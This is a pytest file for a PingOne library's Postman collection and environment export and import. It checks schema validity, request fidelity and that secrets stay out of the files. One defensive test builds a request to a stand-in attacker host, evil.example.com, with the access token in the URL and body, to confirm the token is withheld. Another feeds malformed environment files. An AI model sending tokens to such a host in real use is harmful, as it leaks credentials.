"""Postman collections and environments: valid, without secrets, and the same requests."""

from __future__ import annotations

import json
import re
import tempfile
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pingone_nb import ApiRequest, Exchange, InputError, Secret, Settings
from pingone_nb.interchange import (
    read_postman_environment,
    write_postman_collection,
    write_postman_environment,
)
from pingone_nb.interchange.written_request import WrittenRequest
from pingone_nb.settings import AUTH_METHODS, REGIONS
from pingone_nb.simulator import Simulator
from tests.interchange.exchanges import ENVIRONMENT, ID, exchanges, one, recorded, requests
from tests.interchange.postman_schema import COLLECTION_SCHEMA, ENVIRONMENT_SCHEMA
from tests.interchange.test_http_file import VARIABLE, assert_same
from tests.tiers import cases

COLLECTION = jsonschema.Draft202012Validator(COLLECTION_SCHEMA)


def collection(sources: list[Any]) -> dict[str, Any]:
    """The collection that is written of them, checked."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "c.json"
        assert write_postman_collection(sources, path) == len(sources)
        found: dict[str, Any] = json.loads(path.read_text())
    COLLECTION.validate(found)
    return found


def url(parts: dict[str, Any], variables: dict[str, str]) -> str:
    """The URL that Postman sends: its parts put together, variables filled in."""
    scheme = f"{parts['protocol']}://" if "protocol" in parts else ""
    port = f":{parts['port']}" if "port" in parts else ""
    told = [
        each["key"] if each["value"] is None else f"{each['key']}={each['value']}"
        for each in parts.get("query", ())
    ]
    text = f"{scheme}{'.'.join(parts['host'])}{port}/{'/'.join(parts['path'])}" + (
        "?" + "&".join(told) if told else ""
    )
    assert parts["raw"] in (text, text.removesuffix("/"))
    return VARIABLE.sub(lambda match: variables.get(match[1]) or "%E2%80%A2" * 4, text)


@settings(max_examples=cases(150))
@given(st.lists(requests() | exchanges(), min_size=1, max_size=3))
def test_the_collection_has_the_same_requests(given_: list[ApiRequest | Exchange]) -> None:
    """Method, URL, media type and body are there; only what is masked became a variable."""
    found = collection(given_)
    variables = {each["key"]: each["value"] for each in found["variable"]}

    for source, item in zip(given_, found["item"], strict=True):
        written, request = WrittenRequest.of(source), item["request"]
        headers = {each["key"]: each["value"] for each in request["header"]}
        assert (request["method"], url(request["url"], variables)) == (source.method, written.url)
        assert headers.get("Content-Type") == written.media_type
        assert_same(request.get("body", {}).get("raw") or None, written)


def test_a_flow_becomes_a_collection(simulator: Simulator) -> None:
    """Replies are examples, the token request keeps its token, each operation is authorized."""
    found = collection(list(recorded(simulator)))
    token, initialize, *_ = found["item"]

    assert [each["name"] for each in found["item"]][:3] == [
        "1 token",
        "2 initialize",
        "3 check_otp",
    ]
    assert (token["request"]["auth"]["type"], initialize["request"]["auth"]["type"]) == (
        "basic",
        "bearer",
    )
    assert "access_token" in token["event"][0]["script"]["exec"][1]
    assert initialize["response"][0]["name"] == "201 OTP_REQUIRED"
    assert '"phone": "{{phone}}"' in initialize["request"]["body"]["raw"]
    assert {"key": "phone", "value": "", "type": "string"} in found["variable"]


def test_no_other_host_gets_the_token() -> None:
    """What is no operation of PingOne is not authorized, and its variables stay text."""
    evil = one(
        url="https://evil.example.com/{{accessToken}}", request_body={"a": "{{accessToken}}"}
    )
    (item,) = collection([evil])["item"]

    assert item["request"]["auth"] == {"type": "noauth"}
    assert "{{accessToken}}" not in json.dumps(item["request"])


def test_the_schemas_find_mistakes(simulator: Simulator) -> None:
    """A collection without a name, or with something else in it, is refused."""
    found = collection(list(recorded(simulator)))

    assert not COLLECTION.is_valid({**found, "info": {}})
    assert not COLLECTION.is_valid({**found, "novel": 1})


words = st.from_regex(re.compile(r"[a-z]([a-z0-9-]{0,20}[a-z0-9])?", re.ASCII), fullmatch=True)
all_settings = st.builds(
    Settings,
    environment_id=st.uuids().map(str),
    client_id=st.text('abc-XYZ 019é"\\{}', min_size=1).filter(lambda text: text.strip() == text),
    client_secret=st.builds(Secret, st.just("canary-secret")),
    token=st.none() | st.builds(Secret, st.just("canary-token")),
    auth_method=st.sampled_from(AUTH_METHODS),
    region=st.sampled_from(REGIONS),
    custom_domain=st.none() | words.map(lambda word: f"{word}.example.com"),
    api_path=st.just("") | words.map(lambda word: f"http://{word}:8080/v1"),
    auth_path=st.just("") | words.map(lambda word: f"http://{word}:8080/x"),
    user_id=st.none() | st.uuids().map(str),
)


@settings(max_examples=cases(150))
@given(all_settings)
def test_settings_come_back_without_their_secrets(given_: Settings) -> None:
    """An environment gives back all but secret and token, which the file does not hold."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "e.json"
        write_postman_environment(given_, path)
        text = path.read_text()
        values = read_postman_environment(path)

    jsonschema.Draft202012Validator(ENVIRONMENT_SCHEMA).validate(json.loads(text))
    assert "canary" not in text
    back = Settings(**values, client_secret=given_.client_secret, token=given_.token)
    assert back == given_
    assert back.auth_url("x") == given_.auth_url("x")


def environment(path: Path, *values: Any) -> Path:
    """A file of these variables."""
    path.write_text(json.dumps({"name": "theirs", "values": list(values)}))
    return path


def test_an_environment_of_ones_own_is_read(tmp_path: Path) -> None:
    """Secrets become `Secret`, the API's version is added, what is off, empty or foreign is left out."""
    values = [
        ("envID", ENVIRONMENT), ("apiPath", "https://api.pingone.eu/"), ("appID", " id "),
        ("appSecret", "canary"), ("accessToken", ""), ("novel", 5), ("userID", None),
        ("region", "com"), ("region", "eu"),
    ]  # fmt: skip
    told = [{"key": key, "value": value} for key, value in values]
    path = environment(tmp_path / "e.json", *told, {"key": "userID", "value": ID, "enabled": False})
    found = read_postman_environment(path)

    assert found == {
        "environment_id": ENVIRONMENT, "api_path": "https://api.pingone.eu/v1", "client_id": "id",
        "client_secret": Secret("canary"), "region": "eu",
    }  # fmt: skip
    assert "canary" not in repr(found)
    assert Settings(**found).region == "eu"


@pytest.mark.parametrize(
    ("content", "field"),
    [
        (b"", "path"),
        (b"canary", "path"),
        (b"\xff\xfe\x00canary", "path"),
        (b"[]", "path"),
        (b"[" * 100_000, "path"),
        (b" " * 5_000_000, "path"),
        (b"{}", "values"),
        (b'{"values": "canary"}', "values"),
        (b'{"values": ["canary"]}', "values[0]"),
        (b'{"values": [{"value": "canary"}]}', "values[0].key"),
        (b'{"values": [{"key": ["canary"]}]}', "values[0].key"),
        (b'{"values": [{"key": "envID", "value": {"a": "canary"}}]}', "values[0].value"),
    ],
)
def test_a_hostile_environment_is_refused(tmp_path: Path, content: bytes, field: str) -> None:
    """The place is named, the value never."""
    path = tmp_path / "e.json"
    path.write_bytes(content)

    with pytest.raises(InputError) as caught:
        read_postman_environment(path)
    assert caught.value.field == field
    assert "canary" not in str(caught.value)


def test_a_missing_environment_is_named(tmp_path: Path) -> None:
    """A file that is not there is an `InputError` about the path."""
    with pytest.raises(InputError, match="can't be read") as caught:
        read_postman_environment(tmp_path / "none.json")
    assert caught.value.field == "path"
